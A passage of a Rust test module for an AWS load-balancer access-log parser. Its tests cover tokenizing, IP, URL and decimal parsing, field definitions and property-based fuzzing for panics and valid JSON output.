                .filter(|k| !k.starts_with("user_agent."))
                .collect();
            for pair in keys.windows(2) {
                assert!(
                    key(pair[0]) < key(pair[1]),
                    "{} before {} in {line}",
                    pair[0],
                    pair[1]
                );
            }
            let all: Vec<&str> = event.fields().map(|(k, _)| k).collect();
            let last_other = all.iter().rposition(|k| !k.starts_with("user_agent."));
            let first_ua = all.iter().position(|k| k.starts_with("user_agent."));
            if let (Some(o), Some(u)) = (last_other, first_ua) {
                assert!(u > o, "user_agent.* must come last in {line}");
            }
        }
    }

    #[test]
    fn tokenizer_handles_quotes_spaces_and_escapes() {
        let t: Vec<&str> = Tokens::new(r#"a "b c" "" "d \" e" "f" g"h "-" "#).collect();
        assert_eq!(t, vec!["a", "b c", "", r#"d \" e"#, "f", "g\"h", "-"]);
        let t: Vec<&str> = Tokens::new(r#""unterminated x"#).collect();
        assert_eq!(t, vec!["unterminated x"]);
    }

    #[test]
    fn ip_validation_agrees_with_std() {
        for s in [
            "1.2.3.4",
            "0.0.0.0",
            "255.255.255.255",
            "256.1.1.1",
            "1.2.3",
            "1.2.3.4.5",
            "01.2.3.4",
            "1..2.3",
            "1.2.3.4.",
            ".1.2.3",
            "",
            "1234.1.1.1",
            "a.b.c.d",
            "::1",
            "2001:db8::1",
            "fe80::1%eth0",
            "1.2.3.-4",
            "1.2.3.4 ",
        ] {
            assert_eq!(valid_ip(s), s.parse::<std::net::IpAddr>().is_ok(), "{s}");
        }
    }

    #[test]
    fn find_byte_finds_the_first_match_or_the_end() {
        let hay = b"abcdefghij klmnopq\"rs tuv";
        for needle in [b' ', b'"', b'a', b'v', b'z'] {
            for from in 0..=hay.len() {
                let want = hay[from..]
                    .iter()
                    .position(|&c| c == needle)
                    .map_or(hay.len(), |i| from + i);
                assert_eq!(
                    find_byte(hay, from, needle),
                    want,
                    "{} from {from}",
                    needle as char
                );
            }
        }
    }

    #[test]
    fn url_parts_follow_uri_parts_naming() {
        let u = Url::parse("https://user:pw@shop.example.com:8443/a/b/file.tar.gz?x=1&y=2#frag");
        assert_eq!(
            (
                u.scheme,
                u.domain,
                u.port,
                u.path,
                u.extension,
                u.query,
                u.fragment
            ),
            (
                Some("https"),
                Some("shop.example.com"),
                Some(8443),
                Some("/a/b/file.tar.gz"),
                Some("gz"),
                Some("x=1&y=2"),
                Some("frag")
            )
        );
        let u = Url::parse("/relative/path?q");
        assert_eq!(
            (u.scheme, u.domain, u.path, u.query),
            (None, None, Some("/relative/path"), Some("q"))
        );
        let u = Url::parse("http://host");
        assert_eq!(
            (u.domain, u.port, u.path, u.query, u.fragment),
            (Some("host"), None, None, None, None)
        );
        let u = Url::parse("http://[::1]:80/?#");
        assert_eq!(
            (u.domain, u.port, u.path, u.query, u.fragment),
            (Some("::1"), Some(80), Some("/"), None, None)
        );
        let u = Url::parse("weird:thing/x.y/z");
        assert_eq!(
            (u.scheme, u.path, u.extension),
            (None, Some("weird:thing/x.y/z"), None)
        );
    }

    #[test]
    fn decimal_parsing_is_exact() {
        for s in [
            "0.000",
            "0.001",
            "0.086",
            "1.5",
            "12345.678901",
            "0.000073",
            "4.036",
            "-1",
            "123456789012345678.5",
        ] {
            assert_eq!(parse_decimal(s), s.parse::<f64>().ok(), "{s}");
        }
        for s in ["", "-", ".", "1.2.3", "1e5", "abc", "--1"] {
            assert_eq!(parse_decimal(s), None, "{s}");
        }
    }

    #[test]
    fn emitted_fields_are_defined_in_the_field_file() {
        let yml = include_str!("../../fields/aws.elb_logs.yml");
        let ecs = include_str!("../../fields/ecs.yml");
        let defined = |name: &str| {
            let needle = format!("name: \"{name}\"");
            let bare = format!("name: {name}\n");
            yml.contains(&needle)
                || ecs.contains(&needle)
                || yml.contains(&bare)
                || ecs.contains(&bare)
        };
        let lines = include_str!("../../tests/fixtures/aws.elb_logs/elb.log");
        let mut n = 0;
        for line in lines.lines() {
            ElbParser
                .parse(line, &mut |e| {
                    n += 1;
                    for (k, _) in e.fields() {
                        assert!(defined(k), "field {k} is not defined in fields/");
                    }
                })
                .unwrap_or_else(|err| panic!("{line}: {err}"));
        }
        assert!(n > 10);
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_input_never_panics_and_serializes_to_json(s in "\\PC{0,300}") {
            let mut out = Vec::new();
            let _ = ElbParser.parse(&s, &mut |e| {
                out.clear();
                e.write_json(&mut out);
                serde_json::from_slice::<J>(&out).expect("valid JSON");
            });
        }

        #[test]
        fn mutated_alb_lines_never_panic(cut in 0usize..600, byte in proptest::sample::select(vec![' ', '"', '-', ':', '\\', 'x', '9'])) {
            let mut line: String = ALB_HTTP.to_string();
            let mut at = cut.min(line.len());
            while !line.is_char_boundary(at) { at -= 1; }
            line.insert(at, byte);
            let _ = ElbParser.parse(&line, &mut |e| {
                let mut out = Vec::new();
                e.write_json(&mut out);
                serde_json::from_slice::<J>(&out).expect("valid JSON");
            });
            let _ = ElbParser.parse(&line[..at], &mut |_| {});
        }
    }
}
